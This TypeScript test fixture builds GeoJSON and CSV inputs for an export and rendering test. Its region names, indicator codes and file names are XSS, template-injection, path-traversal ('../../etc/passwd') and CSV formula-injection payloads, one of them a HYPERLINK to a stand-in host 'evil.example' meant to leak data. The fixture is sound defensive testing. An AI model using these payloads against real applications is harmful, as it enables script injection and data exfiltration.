import { randomBytes } from "node:crypto";

// Hostile names for the intake path: a 3 × 3 grid of squares whose region
// codes and names, indicator codes, set and panel names and file names are
// script-like, template-like, formula-like and path-like. Shared by the
// integration test of the CSV export and the browser test that renders them.

export const XSS_SCRIPT = "<script>window.__xss=1</script>";
export const XSS_ATTR = '"><img src=x onerror=window.__xss=1>';
export const TEMPLATE = "{{7*7}}";
export const FORMULA = '=HYPERLINK("http://evil.example/?leak","click")';
export const PATH_LIKE = "../../etc/passwd";

/** Indicator codes, each one hostile. */
export const HOSTILE_INDICATORS = [XSS_SCRIPT, XSS_ATTR, TEMPLATE, FORMULA] as const;

/** Region codes of the grid, row by row; the first five are hostile. */
export const HOSTILE_REGION_CODES = [XSS_SCRIPT, XSS_ATTR, TEMPLATE, FORMULA, PATH_LIKE, "H6", "H7", "H8", "H9"] as const;

/** Region names of the grid, in the same order. */
export const HOSTILE_REGION_NAMES = [
  "<img src=x onerror=window.__xss=1>",
  "<svg onload=window.__xss=1>",
  "{{constructor.constructor('window.__xss=1')()}}",
  "=1+1",
  "${window.__xss=1}",
  "Square 6",
  "Square 7",
  "Square 8",
  "Square 9",
] as const;

export const HOSTILE_FILE_STEM = "../../etc/<img src=x onerror=window.__xss=1>";
export const HOSTILE_SET_NAME = `${XSS_SCRIPT} set`;
export const HOSTILE_PANEL_NAME = `<img src=x onerror=window.__xss=1> panel ${TEMPLATE}`;
export const HOSTILE_LABEL = "<b onmouseover=window.__xss=1>bold label</b>";

/** A tag that makes each upload's bytes (and so its checksum) new. */
export function hostileTag(): string {
  return `${Date.now().toString(36)}${randomBytes(2).toString("hex")}`;
}

export function hostileBoundaries(tag: string): string {
  const features = HOSTILE_REGION_CODES.map((code, i) => {
    const x = (i % 3) * 10 + 500;
    const y = Math.floor(i / 3) * 10 + 500;
    return {
      type: "Feature",
      properties: { code, name: HOSTILE_REGION_NAMES[i], tag },
      geometry: { type: "Polygon", coordinates: [[[x, y], [x + 10, y], [x + 10, y + 10], [x, y + 10], [x, y]]] },
    };
  });
  return JSON.stringify({ type: "FeatureCollection", features });
}

/** RFC 4180 quoting only: the panel must reach intake exactly as written. */
function field(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}

/** One value per grid square, all distinct (so no two points of a scatter plot cover each other), rising from one corner. */
const BASE = [1.0, 2.7, 3.1, 4.9, 5.3, 6.8, 7.2, 8.6, 9.9];

/**
 * A long panel over the grid: each hostile indicator for 2019–2021, values
 * rising from one corner (clustered), with a jitter from `tag` so every call
 * makes a new file.
 */
export function hostilePanel(tag: string): string {
  const jitter = (parseInt(tag.slice(-4), 16) % 97) / 1000;
  const lines = ["region,period,indicator,value"];
  HOSTILE_INDICATORS.forEach((indicator, k) => {
    for (const year of [2019, 2020, 2021]) {
      HOSTILE_REGION_CODES.forEach((region, i) => {
        const value = BASE[i] * (k + 1) + (year - 2019) * 0.5 + jitter;
        lines.push([field(region), String(year), field(indicator), value.toFixed(3)].join(","));
      });
    }
  });
  return `${lines.join("\n")}\n`;
}
